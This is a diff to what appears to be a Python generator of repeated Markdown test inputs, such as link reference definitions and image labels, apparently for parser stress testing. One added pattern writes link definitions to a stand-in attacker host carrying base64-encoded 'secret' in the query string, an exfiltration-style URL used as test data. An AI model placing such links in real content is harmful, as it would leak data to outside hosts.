@@ -89,7 +89,12 @@ OPENER = {
 NESTED = {"nested dests": ")"}
 # Patterns whose every repeat differs (its number in it): each definition is a unit,
 # and each one carried to the units after it.
-NUMBERED = {"definitions": "[r{}]: https://e.example/{}\n\n"}
+NUMBERED = {
+    "definitions": "[r{}]: https://e.example/{}\n\n",
+    "image labels": "![a][u{}] {}\n\n",
+    "uses of definitions": "[r{}]: /d\n\n![a][r{}][\n\n",
+    "off-list definitions": "[r{}]: https://attacker.example/{}?d=c2VjcmV0\n\n",
+}
 PATTERNS.update(dict.fromkeys(NUMBERED, ""))
 TAIL = {"open tag line": ">\n"}
 MIN_SAMPLE = 0.25
